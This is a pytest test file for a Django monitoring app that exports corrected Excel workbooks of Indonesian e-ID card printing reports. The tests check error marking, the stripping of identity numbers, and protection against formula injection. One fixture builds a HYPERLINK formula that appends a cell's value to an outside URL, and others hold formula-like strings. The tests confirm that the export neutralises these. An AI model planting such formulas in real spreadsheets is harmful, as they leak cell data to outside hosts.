import io
import json
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from django.utils import translation
from openpyxl.comments import Comment

from monitoring.exports.corrected import corrected_workbook
from monitoring.exports.marking import AUTHOR
from monitoring.imports.limits import WEB
from monitoring.imports.stored.uploads import check_upload
from tests.imports.sending import sending
from tests.imports.sheets import csv, xlsx

pytestmark = pytest.mark.django_db

SAMPLES = Path(__file__).parents[1] / "samples"
JUNE_6 = date(2017, 6, 6)
GOOD = ("32.01", "KAB. BOGOR", JUNE_6, 200, 3, 60)
BAD = ("32.04", "KAB. BANDNG", JUNE_6, "seratus", 2, 50)
RED = "FFFFC9CF"
NOT_TOLD_AGAIN = {"shifted_row", "ignored_sheet"}


def checked(content, user, **options):
    return check_upload(sending(content, user, limits=WEB, **options))[1]


def corrected(content, user, **options):
    with translation.override("id"):
        return corrected_workbook(content, checked(content, user, **options), WEB)


def opened(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def told(check):
    return sorted(
        (f.code, f.cell or "", str(f.value).strip()) for f in check.findings if f.code not in NOT_TOLD_AGAIN
    )


def rows(check):
    return sorted((row.district, row.as_of, tuple(row.figures.items())) for row in check.reports)


def readable_samples():
    found = [json.loads(path.read_text(encoding="utf-8")) for path in sorted(SAMPLES.glob("*.expected.json"))]
    return [each for each in found if each["sheets"]]


@pytest.mark.parametrize("sample", readable_samples(), ids=lambda sample: sample["file"])
def test_a_corrected_workbook_says_the_same_when_it_is_read_again(central_staff, sample):
    content = (SAMPLES / sample["file"]).read_bytes()
    province, as_of = sample["options"]["province"], sample["options"]["as_of"]
    options = {"province": province, "as_of": as_of and date.fromisoformat(as_of)}
    first = checked(content, central_staff, **options)

    again = checked(corrected(content, central_staff, **options), central_staff, **options)

    assert rows(again) == rows(first)
    wanted = [each for each in told(first) if each[0] != "personal_data"]
    assert [each for each in told(again) if each[0] not in ("not_a_count", "ignored_column")] == [
        each for each in wanted if each[0] not in ("not_a_count", "ignored_column")
    ]


def test_bad_cells_are_red_and_say_why(central_staff):
    book = opened(corrected(xlsx([GOOD, BAD]), central_staff))

    sheet = book["Sheet1"]
    assert {cell.coordinate for row in sheet for cell in row if cell.fill.fgColor.rgb == RED} == {"B3", "D3"}
    assert sheet["D3"].comment.author == AUTHOR
    assert "seratus" in sheet["D3"].comment.text


def test_rows_that_are_fine_are_grey(central_staff):
    sheet = opened(corrected(xlsx([GOOD, BAD]), central_staff))["Sheet1"]

    assert sheet["D2"].font.color.rgb == "FF8A9099"
    assert sheet["E3"].font.color is None or sheet["E3"].font.color.rgb != "FF8A9099"


def test_the_findings_have_a_sheet_of_their_own_with_links(central_staff):
    sheet = opened(corrected(xlsx([GOOD, BAD]), central_staff)).worksheets[0]

    listed = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5)]
    assert sheet["A1"].value == "Temuan portal KTP-el"
    assert [row[:3] for row in listed] == [["Sheet1", "B3", "KAB. BANDNG"], ["Sheet1", "D3", "seratus"]]
    assert sheet["B5"].hyperlink.location == "'Sheet1'!B3"


def test_marks_of_an_earlier_correction_go(central_staff):
    book = opened(corrected(xlsx([GOOD, BAD]), central_staff))
    book["Sheet1"]["B3"] = "KAB. BANDUNG"
    saved = io.BytesIO()
    book.save(saved)

    again = opened(corrected(saved.getvalue(), central_staff))

    sheet = again["Sheet1"]
    assert {cell.coordinate for row in sheet for cell in row if cell.fill.fgColor.rgb == RED} == {"D3"}
    assert sheet["B3"].comment is None
    assert len(again.sheetnames) == 2


def with_formulas():
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet()
        for row, cells in enumerate(
            (("KODE", "KAB/KOTA", "TANGGAL", "TERCETAK"), ("32.01", "KAB. BOGOR", "06/06/2017"))
        ):
            sheet.write_row(row, 0, cells)
        sheet.write_formula("D2", "=100+20", None, 120)
        sheet.write_row(2, 0, ("32.04", "=KAB. BANDNG", "06/06/2017"))
        sheet.write_string("B3", "=KAB. BANDNG")
        sheet.write_formula("D3", '=HYPERLINK("http://example.com/?x="&A1,"7")', None, 7)
        sheet.write_string("A4", "\tJUMLAH")
        sheet.write_formula("D4", "=SUM(D2:D3)", None, 127)
    return content.getvalue()


def test_sums_stay_formulas_with_their_values(central_staff):
    content = corrected(with_formulas(), central_staff)

    assert opened(content)["Sheet1"]["D4"].value == "=SUM(D2:D3)"
    assert openpyxl.load_workbook(io.BytesIO(content), data_only=True)["Sheet1"]["D4"].value == 127


def test_formulas_that_may_call_outside_become_their_values(central_staff):
    sheet = opened(corrected(with_formulas(), central_staff))["Sheet1"]

    assert (sheet["D3"].value, sheet["D3"].data_type) == (7, "n")


def test_texts_that_look_like_formulas_stay_texts(central_staff):
    book = opened(corrected(with_formulas(), central_staff))

    for cell in (book["Sheet1"]["B3"], book["Sheet1"]["A4"], book.worksheets[0]["C5"]):
        assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize("text", [" =1+1", "＝1+1", "  @SUM(A1)"])
def test_texts_that_become_formulas_when_they_are_typed_again_stay_texts(central_staff, text):
    book = opened(corrected(xlsx([GOOD, ("32.04", text, JUNE_6, 5, 2, 50)]), central_staff))

    for cell in (book["Sheet1"]["B3"], book.worksheets[0]["C5"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_texts_of_a_csv_that_look_like_formulas_stay_texts(central_staff):
    content = corrected(csv(("32.04", "=KAB. BANDNG", "06/06/2017", "+1", "", "")), central_staff)

    sheet = opened(content).worksheets[1]
    assert [(sheet[at].value, sheet[at].data_type) for at in ("B2", "D2")] == [
        ("=KAB. BANDNG", "s"),
        ("+1", "s"),
    ]
    assert sheet["B2"].quotePrefix


@pytest.mark.parametrize("make", [xlsx, lambda rows, header: csv(*rows, header=header)], ids=["xlsx", "csv"])
def test_identity_numbers_never_come_back(central_staff, make):
    header = ("KODE", "KAB/KOTA", "TANGGAL", "TERCETAK", "NIK OPERATOR", "CATATAN")
    number = "3204010101900001"
    rows = [
        ("32.04", "KAB. BANDNG", "06/06/2017", 5, number, f"operator {number}"),
        ("32.01", "KAB. BOGOR", "06/06/2017", 5, "Budi", ""),
    ]

    content = corrected(make(rows, header=header), central_staff)

    sheet = opened(content).worksheets[1]
    assert number.encode() not in b"".join(parts_of(content))
    assert b"Budi" not in b"".join(parts_of(content))
    assert (sheet["E1"].value, sheet["E2"].value, sheet["F2"].value) == ("NIK OPERATOR", None, None)


def test_identity_numbers_beside_the_cells_never_come_back(central_staff):
    number = "3204010101900001"
    book = opened(xlsx([GOOD, BAD]))
    book.properties.creator = book.properties.title = f"Budi {number}"
    sheet = book.worksheets[0]
    sheet["A2"].comment = Comment(f"oleh {number}", f"Budi {number}")
    sheet["G2"] = f'=IF("{number}"="",1,2)'
    content = io.BytesIO()
    book.save(content)

    parts = parts_of(corrected(content.getvalue(), central_staff))

    assert number.encode() not in b"".join(parts)
    assert b"oleh \xe2\x80\xa2" in b"".join(parts)


def parts_of(content):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(name) for name in archive.namelist()]


def test_a_slipped_row_of_a_csv_is_not_taken_from_the_workbook_either(central_staff):
    content = (SAMPLES / "39_shifted_row.csv").read_bytes()
    first = checked(content, central_staff)

    again = checked(corrected(content, central_staff), central_staff)

    slipped = [int(f.cell.lstrip("ABCDEFGHIJ")) for f in first.findings if f.code == "shifted_row"]
    assert slipped
    assert {row.row for row in again.reports} == {row.row for row in first.reports}


def test_a_workbook_that_cannot_be_marked_is_laid_out_anew(central_staff, monkeypatch):
    monkeypatch.setattr("monitoring.exports.marking.LARGEST_SHEETS", 10)

    book = opened(corrected(xlsx([GOOD, BAD]), central_staff))

    sheet = book["Sheet1"]
    assert book.worksheets[0]["A1"].value == "Temuan portal KTP-el"
    assert [cell.value for cell in sheet[3]][:2] == ["32.04", "KAB. BANDNG"]
    assert sheet["D3"].fill.fgColor.rgb == RED


@pytest.mark.parametrize("make", [xlsx, lambda rows, header: csv(*rows, header=header)], ids=["xlsx", "csv"])
def test_cells_that_are_only_odd_are_yellow_and_foreign_columns_are_left_alone(central_staff, make):
    header = ("KODE", "KAB/KOTA", "TANGGAL", "TERCETAK", "RUSAK", "CETAK KIA")
    row = ("32.01", "KAB. BOGOR", "06/06/2017", 10, 300, 5)

    book = opened(corrected(make([row], header=header), central_staff))

    sheet = book.worksheets[1]
    painted = {cell.coordinate: cell.fill.fgColor.rgb for row in sheet for cell in row if cell.fill.fill_type}
    assert painted == {"E2": "FFFFF0C2"}
    assert book.worksheets[0].max_row == 5


def test_more_findings_than_a_person_puts_right_at_once_are_cut_and_that_is_said(central_staff):
    rows = [("32.04", "KAB. BANDUNG", date(2017, 4, 1), f"x{n}", 2, 50) for n in range(1005)]

    book = opened(corrected(xlsx(rows), central_staff))

    assert book.worksheets[0].max_row == 1004
    assert "pemeriksaan" in book.worksheets[0]["A3"].value or "next check" in book.worksheets[0]["A3"].value
